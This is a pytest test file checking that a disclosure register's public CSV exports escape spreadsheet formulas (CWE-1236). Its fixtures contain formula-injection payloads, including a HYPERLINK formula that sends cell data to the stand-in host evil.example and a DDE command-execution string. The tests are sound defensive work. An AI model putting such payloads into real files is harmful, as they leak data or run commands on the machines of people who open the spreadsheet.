"""Issue #15 item 4: the public CSV files escape spreadsheet formulas (CWE-1236).

Before the fix a declared body ``=HYPERLINK(…)`` came out of ``nevenfuncties.csv`` and
``inkomsten.csv`` as a live formula; now every text cell that a spreadsheet would run starts
with an apostrophe, numbers stay numbers, and the JSON keeps the exact text.
"""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
import time_machine

from vib.disclosures import services
from vib.disclosures.models import Office

pytestmark = pytest.mark.django_db

EVIL_BODY = '=HYPERLINK("https://evil.example/?"&A1;"Klik")'
EVIL_ROLE = "+cmd|' /C calc'!A0"
EVIL_DESCRIPTION = "@SUM(1+1)*cmd"
EVIL_NAME = "-2+3"


def _publish(town) -> None:
    org, reg = town.organisation, town.people["registrar"]
    with time_machine.travel("2026-03-10 12:00 +01:00", tick=False):
        declarant = services.declarant_create(
            actor=reg,
            organisation=org,
            user=town.people["raadslid"],
            name=EVIL_NAME,
            office=Office.REPRESENTATIVE,
            function="raadslid",
            appointed_on=date(2026, 3, 10),
        )
        activity = services.side_activity_declare(
            actor=declarant.user,
            declarant=declarant,
            role=EVIL_ROLE,
            body=EVIL_BODY,
            description=EVIL_DESCRIPTION,
            start_date=date(2023, 1, 1),
            paid=True,
            hours_per_month=4,
        )
        services.side_activity_register(actor=reg, activity=activity)
        services.income_record(
            actor=declarant.user, activity=activity, year=2026, amount=Decimal("5000")
        )


def _get(client, town, name: str):
    with time_machine.travel("2026-03-12 12:00 +01:00", tick=False):
        return client.get(f"/nevenwerkzaamheden/openbaar/{town.organisation.code}/{name}")


def _rows(client, town, name: str) -> list[dict[str, str]]:
    response = _get(client, town, name)
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def test_side_activities_csv_escapes_formulas(town, client):
    _publish(town)
    [row] = _rows(client, town, "nevenfuncties.csv")
    assert row["instantie"] == "'" + EVIL_BODY
    assert row["rol"] == "'" + EVIL_ROLE
    assert row["omschrijving"] == "'" + EVIL_DESCRIPTION
    assert row["naam"] == "'" + EVIL_NAME
    assert row["uren_per_maand"] == "4.0"  # a number, not text: unchanged


def test_income_csv_escapes_formulas(town, client):
    _publish(town)
    [row] = _rows(client, town, "inkomsten.csv")
    assert row["instantie"] == "'" + EVIL_BODY
    assert row["naam"] == "'" + EVIL_NAME
    assert row["bedrag_euro"] == "5000.00"
    assert row["jaar"] == "2026"


def test_no_cell_of_either_file_starts_a_formula(town, client):
    _publish(town)
    for name in ("nevenfuncties.csv", "inkomsten.csv"):
        for row in csv.reader(io.StringIO(_get(client, town, name).content.decode())):
            assert not [cell for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_json_keeps_the_exact_text(town, client):
    _publish(town)
    document = _get(client, town, "register.json").json()
    [person] = document["personen"]
    assert person["naam"] == EVIL_NAME
    assert person["overigeFuncties"][0]["instantie"] == EVIL_BODY
